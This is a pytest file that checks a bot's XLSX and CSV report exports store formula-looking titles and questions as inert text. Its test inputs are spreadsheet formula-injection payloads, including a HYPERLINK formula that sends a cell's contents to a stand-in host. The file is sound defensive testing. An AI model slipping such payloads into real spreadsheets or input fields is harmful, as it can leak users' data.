"""Exports are data, not formulas: a group title or content text cannot run in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest

from bot.runtime.report_unanswered import as_csv as unanswered_csv
from bot.runtime.reports import Line, as_csv, write_xlsx
from bot.runtime.sheets import FORMULA_START
from bot.storage.unanswered import Count

HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


# XML turns a lone CR into a line feed on reading, so the XLSX check leaves it out.
@pytest.mark.parametrize("title", HOSTILE[:-1])
def test_report_xlsx_keeps_a_formula_looking_title_as_text(title: str, tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    write_xlsx([Line(group=title, topic="calm", month="2026-12")], path)
    assert "<f>" not in _sheet_xml(path), "a cell was written as a formula"
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.value, cell.data_type) == (title, "s")


@pytest.mark.parametrize("title", HOSTILE)
def test_report_csv_disarms_a_formula_looking_title(title: str) -> None:
    rows = list(csv.reader(io.StringIO(as_csv([Line(group=title, topic="t", month="m")]))))
    assert rows[1][0] == "'" + title and not rows[1][0].startswith(FORMULA_START)
    assert rows[1][3:] == ["0"] * (len(rows[1]) - 3), "numbers stay numbers"


def test_unanswered_report_csv_disarms_a_formula_looking_question() -> None:
    counts = [Count("=1+1", "en", 2, date(2026, 12, 6))]
    rows = list(csv.reader(io.StringIO(unanswered_csv(counts))))
    assert rows[1] == ["2", "en", "2026-12-06", "'=1+1"]
